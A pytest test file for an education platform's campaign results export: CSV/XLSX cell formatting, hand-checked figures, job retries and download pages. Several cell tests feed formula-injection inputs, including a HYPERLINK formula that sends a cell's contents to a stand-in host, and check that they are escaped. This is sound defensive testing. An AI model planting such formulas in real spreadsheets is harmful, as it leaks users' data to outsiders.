"""The results export (domain rules §9): cells, the hand-checked files, the job and its pages."""

import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.template.loader import render_to_string
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from analysis import export_tasks, exports
from analysis.export_tasks import export_build, export_request
from analysis.models import ExportJob, JobStatus
from assessments.algorithm import KnowledgeElement
from assessments.models import Assessment
from assessments.models import KnowledgeElement as KnowledgeElementRow
from learning_content import models as content_models
from learning_content.repository import StageData, get_content, invalidate_content_cache
from lib.heartbeat import DEAD_AFTER, worker_name
from lib.models import WorkerHeartbeat
from participations.models import BadgeAcquisition, CampaignParticipation, KnowledgeElementSnapshot
from tests.factories import CampaignFactory, ParticipationFactory, UserFactory, stage_reached
from tests.utils import text


def at(text_utc: str) -> datetime:
    return datetime.fromisoformat(text_utc).replace(tzinfo=UTC)


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


# --- Cells, headers and lines, without a database ------------------------------------------

@pytest.mark.parametrize("value, cell", [
    ("Collège Victor Hugo", '"Collège Victor Hugo"'),
    ('Il a dit "oui"', '"Il a dit ""oui"""'),
    ("a;b", '"a;b"'),
    ('=HYPERLINK("http://evil.test?x="&A1,"Cliquez")', '"\'=HYPERLINK(""http://evil.test?x=""&A1,""Cliquez"")"'),
    ("@SUM(1)", '"\'@SUM(1)"'),
    ("\t=1", '"\'\t=1"'),
    ("\r=1", '"\'\r=1"'),
    ("+33 6 12 34 56 78", '"\'+33 6 12 34 56 78"'),
    ("-A12", '"\'-A12"'),
    ("-12", '"\'-12"'),
    (-12, "-12"),
    (-0.5, "-0,5"),
    (Decimal("-1.50"), "-1,5"),
    (0.75, "0,75"),
    (Decimal("0.5714"), "0,5714"),
    (Decimal("1.0000"), "1"),
    (Decimal("10"), "10"),
    (1.0, "1"),
    (0, "0"),
    (1234567, "1234567"),
    ("2024-09-01", "2024-09-01"),
    ("0612345678", "0612345678"),
    ("", '""'),
    (None, '"NA"'),
    (True, '"Oui"'),
    (False, '"Non"'),
    ("ligne 1\nligne 2", '"ligne 1\nligne 2"'),
])
def test_a_cell_is_written_as_pix_writes_it_and_never_as_a_formula(value, cell):
    assert exports.csv_cell(value) == cell


def test_a_line_joins_cells_with_semicolons_and_ends_with_a_newline():
    assert exports.csv_line(["Zoé", 3, Decimal("0.25"), None]) == '"Zoé";3;0,25;"NA"\n'


@pytest.mark.parametrize("moment, paris", [
    (at("2024-01-15T23:30:00"), "16/01/2024 00:30"),  # winter: UTC+1
    (at("2024-09-10T12:00:00"), "10/09/2024 14:00"),  # summer: UTC+2
    (at("2024-03-31T00:59:00"), "31/03/2024 01:59"),
    (at("2024-03-31T01:00:00"), "31/03/2024 03:00"),  # the spring change
])
def test_dates_are_written_in_paris_time(moment, paris):
    assert exports.csv_cell(exports.paris_datetime(moment)) == f'"{paris}"'


def test_a_date_keeps_the_minute_the_csv_shows():
    assert exports.paris_datetime(at("2024-09-10T12:00:59.5")) == datetime(2024, 9, 10, 14, 0)


@pytest.mark.parametrize("name, filename", [
    ("Rentrée 3e B", "Resultats-Rentrée 3e B-12-2024-09-10-1430.csv"),
    ("3e/B: \"maths\"", "Resultats-3e_B_ _maths_-12-2024-09-10-1430.csv"),
    ("  ", "Resultats-campagne-12-2024-09-10-1430.csv"),
])
def test_the_file_is_named_after_the_campaign_and_the_paris_time(name, filename):
    assert exports.export_filename(name, 12, at("2024-09-10T12:30:00"), "csv") == filename


@pytest.mark.parametrize("numerator, denominator, places, expected", [
    (1, 3, 2, Decimal("0.33")), (2, 3, 2, Decimal("0.67")), (1, 8, 2, Decimal("0.13")),
    (6, 7, 3, Decimal("0.857")), (1, 1, 2, Decimal("1.00")), (0, 0, 2, Decimal(0)),
])
def test_ratios_round_half_up(numerator, denominator, places, expected):
    assert exports.ratio(numerator, denominator, places) == expected


def ke(skill_id, status="validated", competence_id="c1", pix=4.0, created_at=None):
    return KnowledgeElement(skill_id=skill_id, status=status, source="direct",
                            earned_pix=pix if status == "validated" else 0.0, competence_id=competence_id,
                            created_at=created_at)


TARGET = frozenset({"s1", "s2", "s3", "s4"})
START = at("2024-09-20T08:00:00")


@pytest.mark.parametrize("knowledge, completed, expected", [
    ([], False, Decimal("0.000")),
    ([ke("s1"), ke("s2", "invalidated"), ke("other")], False, Decimal("0.500")),
    ([ke("s1"), ke("s1", "reset")], False, Decimal("0.000")),
    ([ke("s1")], True, 1),
    # Every campaign test forgets the failures older than 4 days, not the successes (§4.2).
    ([ke("s1", created_at=START - timedelta(days=10)), ke("s2", "invalidated", created_at=START - timedelta(days=10)),
      ke("s3", "invalidated", created_at=START - timedelta(days=2))], False, Decimal("0.500")),
    ([ke("s1", created_at=START - timedelta(days=10)), ke("s2", "invalidated", created_at=START - timedelta(days=10))],
     False, Decimal("0.250")),
])
def test_progression_of_a_participation_not_sent(knowledge, completed, expected):
    assert exports.evaluation_progression(
        knowledge, target_skill_ids=TARGET, completed=completed, assessment_started_at=START,
    ) == expected


def layout(**fields):
    values = dict(
        is_assessment=True, organization_name="Collège", campaign_id=7, campaign_code="ABCDEF234",
        campaign_name="Rentrée", target_profile_name="Parcours", target_skill_ids=TARGET,
        competences=(exports.SkillGroup("c1", "Chercher", frozenset({"s1", "s2", "s3"})),
                     exports.SkillGroup("c2", "Gérer", frozenset({"s4"}))),
        areas=(exports.SkillGroup("a1", "Information", TARGET),),
    )
    values.update(fields)
    return exports.Layout(**values)


STAGES = (StageData(0, None, "", "", "", ""), StageData(50, None, "", "", "", ""))
SHARED = exports.Participant(
    last_name="Abel", first_name="Zoé", external_id="X1", created_at=at("2024-09-10T12:00:00"),
    shared_at=at("2024-09-10T13:00:00"), mastery_rate=Decimal("0.5"), progression=1,
    knowledge=(ke("s1"), ke("s2"), ke("s4", competence_id="c2")), reached_stage=2,
)
STARTED = exports.Participant(last_name="Abel", first_name="Zoé", external_id="", created_at=at("2024-09-10T12:00:00"),
                              progression=Decimal("0.25"))


@pytest.mark.parametrize("fields, extra_headers", [
    ({}, []),
    ({"external_id_label": "Numéro"}, ["Numéro"]),
    ({"stages": STAGES}, ["Palier obtenu (/1)"]),
])
def test_evaluation_headers_and_lines_have_the_same_width(fields, extra_headers):
    the_layout = layout(**fields)
    header = exports.headers(the_layout)

    assert all(extra in header for extra in extra_headers)
    assert "Classe" not in header
    assert len(exports.line(the_layout, SHARED)) == len(header) == len(exports.line(the_layout, STARTED))


def test_an_evaluation_line_from_plain_values():
    the_layout = layout(stages=STAGES, external_id_label="Numéro")

    assert exports.line(the_layout, SHARED) == [
        "Collège", 7, "ABCDEF234", "Rentrée", "Parcours", "Abel", "Zoé", "X1",
        1, datetime(2024, 9, 10, 14, 0), True, datetime(2024, 9, 10, 15, 0), 1, Decimal("0.5"),
        Decimal("0.67"), 3, 2, Decimal("1.00"), 1, 1, Decimal("0.75"), 4, 3,
    ]
    assert exports.line(the_layout, STARTED) == [
        "Collège", 7, "ABCDEF234", "Rentrée", "Parcours", "Abel", "Zoé", "",
        Decimal("0.25"), datetime(2024, 9, 10, 14, 0), False, None, *[None] * 11,
    ]


def test_a_profiles_collection_line_from_plain_values():
    the_layout = layout(is_assessment=False, target_profile_name="", max_level=1, competences=(
        exports.SkillGroup("c1", "Chercher", frozenset()), exports.SkillGroup("c2", "Gérer", frozenset()),
    ))
    participant = exports.Participant(
        last_name="Abel", first_name="Zoé", external_id="", created_at=at("2024-09-01T08:00:00"),
        shared_at=at("2024-09-01T22:30:00"), pix_score=13, is_certifiable=False,
        # 3 × 4 pix in c1 (capped at level 1 = 8 pix), 5.5 in c2.
        knowledge=(ke("s1"), ke("s2"), ke("s3"), ke("s4", competence_id="c2", pix=5.5)),
    )

    assert exports.headers(the_layout)[4:] == [
        "Nom du Participant", "Prénom du Participant", "Envoi (O/N)", "Date de l'envoi", "Nombre de pix total",
        "Certifiable (O/N)", "Nombre de compétences certifiables", "Niveau pour la compétence Chercher",
        "Nombre de pix pour la compétence Chercher", "Niveau pour la compétence Gérer",
        "Nombre de pix pour la compétence Gérer",
    ]
    # Sent at 00:30 in Paris on the 2nd: the same format and time zone as every other date.
    assert exports.line(the_layout, participant)[4:] == [
        "Abel", "Zoé", True, datetime(2024, 9, 2, 0, 30), 13, False, 1, 1, 8, 0, 5,
    ]


def test_the_xlsx_keeps_numbers_as_numbers_and_formulas_as_text(tmp_path):
    target = tmp_path / "t.xlsx"
    writer = exports.XlsxWriter(target)
    writer.write(["Nom", "Valeur"])
    writer.write(['=HYPERLINK("http://evil.test","x")', Decimal("0.5")])
    writer.write(["@SUM(1)", -3])
    writer.write([None, True])
    writer.close()

    sheet = openpyxl.load_workbook(target).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows == [("Nom", "Valeur"), ('=HYPERLINK("http://evil.test","x")', 0.5), ("@SUM(1)", -3), ("NA", "Oui")]
    assert sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
    assert sheet["B3"].data_type == "n"


# --- A hand-checked campaign on a tiny référentiel -----------------------------------------

COMPETENCE_OF = {"rec": "comp-11", "don": "comp-12", "int": "comp-21"}
PIX_OF = {"rec": 4.0, "don": 8.0, "int": 2.5}


@pytest.fixture
def tiny_referential(db):
    """3 competences in 2 areas; "Parcours mini" = @recherche1-2, @donnees1-2, @interagir1-2-4
    (7 skills), stages at 0, 30 and 70 %, badges « Recherche » (@recherche up to 2, all) and
    « Parcours réussi » (80 % of the parcours)."""
    area1 = content_models.Area.objects.create(id="area-1", code="1", title="Information et données", color="jaffa")
    area2 = content_models.Area.objects.create(id="area-2", code="2", title="Communication et collaboration",
                                               color="emerald")
    competences = {
        "rec": content_models.Competence.objects.create(
            id="comp-11", index="1.1", name="Mener une recherche et une veille d'information", area=area1),
        "don": content_models.Competence.objects.create(id="comp-12", index="1.2", name="Gérer des données", area=area1),
        "int": content_models.Competence.objects.create(id="comp-21", index="2.1", name="Interagir", area=area2),
    }
    profile = content_models.TargetProfile.objects.create(id="tp-mini", name="Parcours mini", category="OTHER")
    for prefix, (tube_name, levels, cap) in {
        "rec": ("@recherche", (1, 2, 3), 2), "don": ("@donnees", (1, 2), 2), "int": ("@interagir", (1, 2, 4), 4),
    }.items():
        tube = content_models.Tube.objects.create(id=f"tube-{prefix}", name=tube_name, practical_title=tube_name,
                                                  competence=competences[prefix])
        for level in levels:
            content_models.Skill.objects.create(id=f"{prefix}{level}", name=f"{tube_name}{level}", level=level,
                                                pix_value=PIX_OF[prefix], tube=tube, competence=competences[prefix])
        content_models.TargetProfileTube.objects.create(target_profile=profile, tube=tube, level=cap)
    for threshold in (0, 30, 70):
        content_models.Stage.objects.create(target_profile=profile, threshold=threshold, title=f"Palier {threshold}",
                                            message="Bravo")
    for position, (key, title, criterion) in enumerate([
        ("recherche", "Recherche", {"scope": "CappedTubes", "threshold": 100, "name": "",
                                    "capped_tubes": [{"tube_id": "tube-rec", "level": 2}]}),
        ("reussi", "Parcours réussi", {"scope": "CampaignParticipation", "threshold": 80, "name": "", "capped_tubes": []}),
    ]):
        content_models.Badge.objects.create(
            key=key, target_profile=profile, title=title, message="Bravo", image_src="badges/certification.svg",
            alt_message="Une médaille", position=position, criteria=[criterion],
        )
    content_models.ContentRelease.objects.create(pk=1, version="tiny", loaded_at=timezone.now())
    invalidate_content_cache()
    yield get_content()
    invalidate_content_cache()


def snapshot_item(skill_id, status):
    prefix = skill_id[:3]
    return {"skill_id": skill_id, "competence_id": COMPETENCE_OF[prefix], "status": status, "source": "direct",
            "earned_pix": PIX_OF[prefix] if status == "validated" else 0.0, "created_at": "2024-09-01T10:00:00+00:00"}


def participation(campaign, user, *, status, created_at, shared_at=None, snapshot=(), assessment=None, badges=(),
                  **fields):
    made = ParticipationFactory(campaign=campaign, user=user, status=status, shared_at=shared_at,
                                assessment=assessment, **fields)
    CampaignParticipation.objects.filter(pk=made.pk).update(created_at=created_at)
    if status == "SHARED":
        KnowledgeElementSnapshot.objects.create(
            participation=made, snapshotted_at=shared_at,
            knowledge_elements=[snapshot_item(skill_id, skill_status) for skill_id, skill_status in snapshot],
        )
        if campaign.is_assessment:
            stage_reached(made, validated_count=made.validated_skills_count or 0)
    BadgeAcquisition.objects.bulk_create(
        BadgeAcquisition(participation=made, badge_key=key, acquired_at=created_at) for key in badges
    )
    return made


def assessment(user, *, created_at, completed=False, improving=False):
    made = Assessment.objects.create(
        user=user, type="CAMPAIGN", target_profile_id="tp-mini", end_path="/", is_improving=improving,
        state="completed" if completed else "started",
    )
    Assessment.objects.filter(pk=made.pk).update(created_at=created_at)
    made.refresh_from_db()
    return made


def live_ke(user, made_assessment, skill_id, status, created_at):
    prefix = skill_id[:3]
    KnowledgeElementRow.objects.create(
        user=user, assessment=made_assessment, skill_id=skill_id, competence_id=COMPETENCE_OF[prefix], status=status,
        source="direct", earned_pix=PIX_OF[prefix] if status == "validated" else 0.0, created_at=created_at,
    )


@pytest.fixture
def evaluation(school, teacher, tiny_referential):
    campaign = CampaignFactory(organization=school, creator=teacher, type="ASSESSMENT", target_profile_id="tp-mini",
                               name="Rentrée 3e B", external_id_label="Numéro d'élève", external_id_type="STRING")
    abel = UserFactory(last_name="Abel", first_name="Zoé")
    participation(campaign, abel, status="SHARED", created_at=at("2024-09-10T12:00:00"),
                  shared_at=at("2024-09-10T14:45:00"), mastery_rate=Decimal("0.5714"), validated_skills_count=4,
                  participant_external_id="@abel", badges=["recherche"],
                  assessment=assessment(abel, created_at=at("2024-09-10T12:00:00"), completed=True),
                  snapshot=[("rec1", "validated"), ("rec2", "validated"), ("rec3", "validated"),
                            ("don1", "validated"), ("don2", "invalidated"), ("int1", "validated"),
                            ("int2", "invalidated")])
    # Learnt after sending: the teacher keeps seeing what was sent.
    live_ke(abel, Assessment.objects.filter(user=abel).get(), "int4", "validated", at("2024-09-11T10:00:00"))

    bernard = UserFactory(last_name="Bernard", first_name="Élodie")
    participation(campaign, bernard, status="TO_SHARE", created_at=at("2024-09-11T07:05:00"),
                  assessment=assessment(bernard, created_at=at("2024-09-11T07:05:00"), completed=True))

    durand = UserFactory(last_name="durand", first_name="léo")
    participation(campaign, durand, status="STARTED", created_at=at("2024-09-12T06:00:00"),
                  participant_external_id="2024-17",
                  assessment=assessment(durand, created_at=at("2024-09-12T06:00:00")))

    martin = UserFactory(last_name="Martin", first_name="Adam")
    first = assessment(martin, created_at=at("2024-09-02T12:00:00"), completed=True)
    for skill_id, status in [("rec1", "validated"), ("rec2", "invalidated"), ("don1", "validated"),
                             ("don2", "validated"), ("int1", "validated"), ("int2", "validated"),
                             ("int4", "validated")]:
        live_ke(martin, first, skill_id, status, at("2024-09-02T12:10:00"))
    participation(campaign, martin, status="SHARED", is_improved=True, created_at=at("2024-09-02T12:00:00"),
                  shared_at=at("2024-09-02T13:00:00"), mastery_rate=Decimal("0.8571"), validated_skills_count=6,
                  participant_external_id="A-12", assessment=first, badges=["reussi"],
                  snapshot=[("rec1", "validated"), ("rec2", "invalidated"), ("don1", "validated"),
                            ("don2", "validated"), ("int1", "validated"), ("int2", "validated"),
                            ("int4", "validated")])
    retry = assessment(martin, created_at=at("2024-09-20T08:00:00"), improving=True)
    live_ke(martin, retry, "don2", "invalidated", at("2024-09-20T08:05:00"))
    participation(campaign, martin, status="STARTED", created_at=at("2024-09-20T08:00:00"),
                  participant_external_id="A-12", assessment=retry)

    gone = participation(campaign, None, status="STARTED", created_at=at("2024-09-12T06:00:00"))
    CampaignParticipation.objects.filter(pk=gone.pk).update(deleted_at=at("2024-09-13T06:00:00"))
    return campaign


def build(campaign, user, format="csv", *, capture):
    with capture(execute=True):
        job = export_request(campaign=campaign, user=user, format=format, now=at("2024-09-21T08:30:00"))
    job.refresh_from_db()
    return job


def test_the_evaluation_csv_matches_the_figures_worked_out_by_hand(
    evaluation, teacher, django_capture_on_commit_callbacks,
):
    job = build(evaluation, teacher, capture=django_capture_on_commit_callbacks)

    assert job.status == JobStatus.DONE and job.attempts == 1
    assert job.rows_done == job.rows_total == 5
    assert job.filename == f"Resultats-Rentrée 3e B-{evaluation.pk}-2024-09-21-1030.csv"
    raw = job.file.read().decode("utf-8")
    assert raw.startswith("\ufeff") and raw.endswith("\n") and "\r" not in raw
    competences = ["Mener une recherche et une veille d'information", "Gérer des données", "Interagir"]
    areas = ["Information et données", "Communication et collaboration"]
    header = [
        "Nom de l'organisation", "ID Campagne", "Code", "Nom de la campagne", "Parcours", "Nom du Participant",
        "Prénom du Participant", "Numéro d'élève", "% de progression", "Date de début", "Partage (O/N)",
        "Date du partage", "Palier obtenu (/2)", "Recherche obtenu (O/N)", "Parcours réussi obtenu (O/N)",
        "% maitrise de l'ensemble des acquis du profil",
    ]
    for name in competences:
        header += [f"% de maitrise des acquis de la compétence {name}",
                   f"Nombre d'acquis du profil cible dans la compétence {name}",
                   f"Acquis maitrisés dans la compétence {name}"]
    for name in areas:
        header += [f"% de maitrise des acquis du domaine {name}", f"Nombre d'acquis du profil cible du domaine {name}",
                   f"Acquis maitrisés du domaine {name}"]
    start = f'"Collège Victor Hugo";{evaluation.pk};"{evaluation.code}";"Rentrée 3e B";"Parcours mini";'
    na = ';"NA"' * 19
    assert raw[1:].split("\n") == [
        ";".join(f'"{title}"' for title in header),
        # 4 of 7 skills (4/7 = 57 % ≥ 30: stage 1); @recherche 2/2, @donnees 1/2, @interagir 1/3;
        # areas 3/4 and 1/3. @recherche3 is no target skill. « Recherche » won, not « Parcours réussi ».
        start + '"Abel";"Zoé";"\'@abel";1;"10/09/2024 14:00";"Oui";"10/09/2024 16:45";1;"Oui";"Non";0,5714;'
                '1;2;2;0,5;2;1;0,33;3;1;0,75;4;3;0,33;3;1',
        # Test over, not sent.
        start + '"Bernard";"Élodie";"";1;"11/09/2024 09:05";"Non";"NA"' + na,
        # Nothing tested yet; sorted without regard to case.
        start + '"durand";"léo";2024-17;0;"12/09/2024 08:00";"Non";"NA"' + na,
        # The retry: 6 of 7 tested (the old failure on @recherche2 is forgotten after 4 days).
        start + '"Martin";"Adam";"A-12";0,857;"20/09/2024 10:00";"Non";"NA"' + na,
        # The first sending: 6 of 7 (86 % ≥ 70: stage 2); 1/2, 2/2, 3/3; areas 3/4 and 3/3;
        # « Parcours réussi » won (86 % ≥ 80), not « Recherche » (1/2).
        start + '"Martin";"Adam";"A-12";1;"02/09/2024 14:00";"Oui";"02/09/2024 15:00";2;"Non";"Oui";0,8571;'
                '0,5;2;1;1;2;2;1;3;3;0,75;4;3;1;3;3',
        "",
    ]


@pytest.fixture
def collection(school, teacher, tiny_referential):
    campaign = CampaignFactory(organization=school, creator=teacher, name="Collecte 3e B")
    abel = UserFactory(last_name="Abel", first_name="Zoé")
    participation(campaign, abel, status="SHARED", created_at=at("2024-09-01T20:00:00"),
                  shared_at=at("2024-09-01T22:30:00"), pix_score=30, is_certifiable=False,
                  snapshot=[("rec1", "validated"), ("rec2", "validated"), ("rec3", "validated"),
                            ("don1", "validated"), ("don2", "validated"), ("int1", "validated"),
                            ("int2", "invalidated")])
    participation(campaign, UserFactory(last_name="Bernard", first_name="Élodie"), status="TO_SHARE",
                  created_at=at("2024-09-02T07:00:00"))
    return campaign


def test_the_profiles_collection_csv_matches_the_figures_worked_out_by_hand(
    collection, teacher, django_capture_on_commit_callbacks,
):
    job = build(collection, teacher, capture=django_capture_on_commit_callbacks)

    raw = job.file.read().decode("utf-8")
    competences = ["Mener une recherche et une veille d'information", "Gérer des données", "Interagir"]
    header = ["Nom de l'organisation", "ID Campagne", "Code", "Nom de la campagne", "Nom du Participant",
              "Prénom du Participant", "Envoi (O/N)", "Date de l'envoi", "Nombre de pix total", "Certifiable (O/N)",
              "Nombre de compétences certifiables"]
    for name in competences:
        header += [f"Niveau pour la compétence {name}", f"Nombre de pix pour la compétence {name}"]
    start = f'"Collège Victor Hugo";{collection.pk};"{collection.code}";"Collecte 3e B";'
    assert raw == "\ufeff" + "\n".join([
        ";".join(f'"{title}"' for title in header),
        # 1.1: 3 × 4 = 12 pix, level 1; 1.2: 2 × 8 = 16 pix, level 2; 2.1: 2.5 pix → 2, level 0.
        # Two competences at level 1 or more; sent at 00:30 in Paris on the 2nd (the 1st in UTC).
        start + '"Abel";"Zoé";"Oui";"02/09/2024 00:30";30;"Non";2;1;12;2;16;0;2',
        start + '"Bernard";"Élodie";"Non"' + ';"NA"' * 10,
    ]) + "\n"


def test_the_profiles_collection_csv_caps_levels_and_pix_at_max_reachable_level(
    collection, teacher, settings, django_capture_on_commit_callbacks,
):
    settings.MAX_REACHABLE_LEVEL = 1

    raw = build(collection, teacher, capture=django_capture_on_commit_callbacks).file.read().decode("utf-8")

    # 1.2's 16 pix are capped at level 1 × 8 pix; 1.1 (12 pix) too.
    assert '"Abel";"Zoé";"Oui";"02/09/2024 00:30";30;"Non";2;1;8;1;8;0;2' in raw


def test_the_xlsx_is_the_same_table(evaluation, teacher, django_capture_on_commit_callbacks):
    job = build(evaluation, teacher, "xlsx", capture=django_capture_on_commit_callbacks)

    assert job.filename.endswith(".xlsx")
    rows = list(openpyxl.load_workbook(io.BytesIO(job.file.read())).active.iter_rows(values_only=True))
    assert len(rows) == 6 and rows[0][:3] == ("Nom de l'organisation", "ID Campagne", "Code")
    assert rows[1] == (
        "Collège Victor Hugo", evaluation.pk, evaluation.code, "Rentrée 3e B", "Parcours mini", "Abel", "Zoé", "@abel",
        1, datetime(2024, 9, 10, 14, 0), "Oui", datetime(2024, 9, 10, 16, 45), 1, "Oui", "Non", 0.5714,
        1, 2, 2, 0.5, 2, 1, 0.33, 3, 1, 0.75, 4, 3, 0.33, 3, 1,
    )
    assert rows[4][8:12] == (0.857, datetime(2024, 9, 20, 10, 0), "Non", "NA")


def test_the_xlsx_dates_are_date_cells_shown_as_in_the_csv(collection, teacher, django_capture_on_commit_callbacks):
    job = build(collection, teacher, "xlsx", capture=django_capture_on_commit_callbacks)

    sheet = openpyxl.load_workbook(io.BytesIO(job.file.read())).active
    sent = sheet.cell(row=2, column=8)
    assert sheet.cell(row=1, column=8).value == "Date de l'envoi"
    assert sent.is_date and sent.value == datetime(2024, 9, 2, 0, 30)
    assert sent.number_format == "dd/mm/yyyy hh:mm"


# --- The job -------------------------------------------------------------------------------

def exported_files(media_root):
    folder = media_root / "exports"
    return sorted(item.name for item in folder.iterdir()) if folder.exists() else []


def test_a_second_click_returns_the_export_under_way(collection, teacher, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks() as callbacks:
        first = export_request(campaign=collection, user=teacher, format="csv", now=timezone.now())
        second = export_request(campaign=collection, user=teacher, format="csv", now=timezone.now())
        other_format = export_request(campaign=collection, user=teacher, format="xlsx", now=timezone.now())

    assert first.pk == second.pk != other_format.pk
    assert len(callbacks) == 2 and ExportJob.objects.count() == 2


def test_a_stuck_export_is_sent_to_the_workers_again(collection, teacher, django_capture_on_commit_callbacks):
    now = timezone.now()
    job = ExportJob.objects.create(campaign=collection, format="csv", status=JobStatus.RUNNING, attempts=1,
                                   requested_at=now - timedelta(hours=1), started_at=now - timedelta(hours=1))

    with django_capture_on_commit_callbacks() as callbacks:
        again = export_request(campaign=collection, user=teacher, format="csv", now=now)

    assert again.pk == job.pk and len(callbacks) == 1


def test_a_job_whose_worker_died_is_built_again_whole(collection, media_root):
    now = timezone.now()
    job = ExportJob.objects.create(campaign=collection, format="csv", status=JobStatus.RUNNING, attempts=1,
                                   rows_done=1, rows_total=2, requested_at=now - timedelta(hours=1),
                                   started_at=now - export_tasks.STALE_AFTER - timedelta(seconds=1))
    (media_root / "exports").mkdir(parents=True)
    (media_root / "exports" / f".export-{job.pk}-1.part").write_text('\ufeff"Nom de l\'organisation";"ID')

    export_tasks.build_export.delay(job.pk)

    job.refresh_from_db()
    assert job.status == JobStatus.DONE and job.attempts == 2 and job.rows_done == 2
    assert exported_files(media_root) == [job.file.name.split("/")[-1]]
    lines = job.file.read().decode().split("\n")
    assert len(lines) == 4 and lines[2].startswith('"Collège Victor Hugo"') and lines[3] == ""


def test_a_job_a_live_worker_holds_is_left_to_it(collection):
    now = timezone.now()
    WorkerHeartbeat.objects.create(name="worker-1:4242", seen_at=now - timedelta(seconds=5))
    job = ExportJob.objects.create(campaign=collection, format="csv", status=JobStatus.RUNNING, attempts=1,
                                   requested_at=now, started_at=now - timedelta(minutes=10), worker="worker-1:4242")

    assert export_build(job_id=job.pk, clock=lambda: now) == export_tasks.BUSY
    job.refresh_from_db()
    assert job.status == JobStatus.RUNNING and job.attempts == 1


def test_a_job_whose_worker_stopped_beating_a_minute_ago_is_taken_over(collection, media_root):
    now = timezone.now()
    WorkerHeartbeat.objects.create(name="worker-1:4242", seen_at=now - DEAD_AFTER - timedelta(seconds=1))
    job = ExportJob.objects.create(campaign=collection, format="csv", status=JobStatus.RUNNING, attempts=1,
                                   requested_at=now, started_at=now - timedelta(minutes=1), worker="worker-1:4242")

    assert export_build(job_id=job.pk, clock=lambda: now) == export_tasks.BUILT
    job.refresh_from_db()
    assert job.status == JobStatus.DONE and job.attempts == 2 and job.worker == worker_name()


def test_a_failure_in_the_middle_leaves_no_file_and_the_job_to_retry(collection, media_root, monkeypatch):
    job = ExportJob.objects.create(campaign=collection, format="csv", requested_at=timezone.now())
    written = []
    real_line = exports.line

    def line_then_crash(layout, participant):
        if written:
            raise ConnectionError("the database went away")
        written.append(participant)
        return real_line(layout, participant)

    monkeypatch.setattr(exports, "CHUNK_SIZE", 1)
    monkeypatch.setattr(exports, "line", line_then_crash)

    assert export_build(job_id=job.pk) == export_tasks.RETRY
    job.refresh_from_db()
    assert job.status == JobStatus.REQUESTED and job.attempts == 1 and "ConnectionError" in job.error
    assert exported_files(media_root) == [] and not job.file

    monkeypatch.setattr(exports, "line", real_line)
    assert export_build(job_id=job.pk) == export_tasks.BUILT
    job.refresh_from_db()
    assert job.status == JobStatus.DONE and job.attempts == 2 and len(job.file.read().decode().split("\n")) == 4


def test_a_job_failing_every_attempt_is_marked_failed(collection, monkeypatch):
    job = ExportJob.objects.create(campaign=collection, format="csv", requested_at=timezone.now(),
                                   attempts=export_tasks.MAX_ATTEMPTS - 1)
    monkeypatch.setattr(exports, "headers", lambda layout: 1 / 0)

    assert export_build(job_id=job.pk) == export_tasks.FAILED
    job.refresh_from_db()
    assert job.status == JobStatus.FAILED and job.finished_at and "ZeroDivisionError" in job.error


def test_a_job_whose_workers_keep_dying_is_given_up(collection):
    now = timezone.now()
    job = ExportJob.objects.create(campaign=collection, format="csv", status=JobStatus.RUNNING,
                                   attempts=export_tasks.MAX_ATTEMPTS, requested_at=now - timedelta(hours=2),
                                   started_at=now - timedelta(hours=1))

    assert export_build(job_id=job.pk, clock=lambda: now) == export_tasks.FAILED
    job.refresh_from_db()
    assert job.status == JobStatus.FAILED


def test_a_finished_job_is_not_built_twice(collection):
    job = ExportJob.objects.create(campaign=collection, format="csv", status=JobStatus.DONE, attempts=1,
                                   requested_at=timezone.now())

    assert export_build(job_id=job.pk) == export_tasks.SKIPPED
    job.refresh_from_db()
    assert job.attempts == 1


def populate(campaign, count):
    for index in range(count):
        user = UserFactory(last_name=f"Nom{index:02d}")
        participation(campaign, user, status="SHARED", created_at=at("2024-09-02T12:00:00"),
                      shared_at=at("2024-09-02T13:00:00"), mastery_rate=Decimal("0.5"),
                      assessment=assessment(user, created_at=at("2024-09-02T12:00:00"), completed=True),
                      snapshot=[("rec1", "validated"), ("int2", "invalidated")])
        other = UserFactory(last_name=f"Autre{index:02d}")
        started = assessment(other, created_at=at("2024-09-02T12:00:00"))
        live_ke(other, started, "rec1", "validated", at("2024-09-02T12:05:00"))
        live_ke(other, started, "don1", "invalidated", at("2024-09-02T12:06:00"))
        participation(campaign, other, status="STARTED", created_at=at("2024-09-02T12:00:00"), assessment=started)


@pytest.mark.parametrize("kind", ["ASSESSMENT", "PROFILES_COLLECTION"])
def test_building_the_file_costs_the_same_queries_for_1_and_30_participants(school, teacher, tiny_referential, kind):
    def queries(count):
        campaign = CampaignFactory(organization=school, creator=teacher, type=kind,
                                   target_profile_id="tp-mini" if kind == "ASSESSMENT" else None)
        populate(campaign, count)
        job = ExportJob.objects.create(campaign=campaign, format="csv", requested_at=timezone.now())
        with CaptureQueriesContext(connection) as captured:
            assert export_build(job_id=job.pk) == export_tasks.BUILT
        job.refresh_from_db()
        assert job.rows_done == 2 * count
        return len(captured)

    get_content()
    # The worker's heartbeat, claim, job and campaign, count, total, participations, snapshots,
    # [live knowledge elements, stage acquisitions, badge acquisitions,] progress, done.
    assert queries(1) == queries(30) <= 12


# --- Pages ---------------------------------------------------------------------------------

def test_a_teacher_starts_an_export_and_follows_it_to_the_file(
    client_of, teacher, collection, django_capture_on_commit_callbacks,
):
    client = client_of(teacher)

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("exports:start", args=[collection.pk]), {"format": "csv"},
                               HTTP_HX_REQUEST="true")

    job = ExportJob.objects.get()
    assert response.status_code == 200 and job.requested_by == teacher
    status = text(client.get(reverse("exports:status", args=[collection.pk, job.pk]), HTTP_HX_REQUEST="true"))
    assert "Télécharger le fichier" in status and "hx-trigger" not in status
    download = client.get(reverse("exports:download", args=[collection.pk, job.pk]))
    assert download.status_code == 200 and download["Content-Type"] == "text/csv; charset=utf-8"
    job.refresh_from_db()
    assert download["Content-Disposition"] == f'attachment; filename="{job.filename}"'
    assert b"".join(download.streaming_content).decode().startswith('\ufeff"Nom de l\'organisation"')


def test_without_htmx_starting_an_export_goes_back_to_the_panel(client_of, teacher, collection):
    response = client_of(teacher).post(reverse("exports:start", args=[collection.pk]), {"format": "xlsx"})

    assert response.status_code == 302 and response.url.endswith("#exports")
